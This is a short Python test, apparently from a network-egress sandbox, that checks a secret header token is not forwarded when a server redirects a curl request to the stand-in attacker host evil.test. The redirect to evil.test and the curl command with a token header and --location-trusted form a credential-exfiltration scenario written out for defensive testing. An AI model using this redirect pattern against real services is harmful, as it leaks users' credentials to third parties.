def test_a_redirect_does_not_take_a_secret_along(place, https, evil):
    def script(connection):
        connection.request()
        connection.send(b"HTTP/1.1 302 Found\r\nLocation: https://evil.test/\r\nContent-Length: 0\r\n\r\n")
        connection.wait_for_end()

    https.script = script
    options = (*both(https, evil), "--allow-net", "evil.test", "--secret", "TOKEN=env:TOKEN@api.test")
    done = egress.bash(place, 'curl -sSL --location-trusted -H "X-Key: $TOKEN" https://api.test/', options,
                       env={"TOKEN": SECRET})
    assert "placeholder_misplaced" in done.stdout, done
    assert https.requests[0].values("x-key") == [SECRET]  # control
    assert SECRET.encode() not in evil.received()
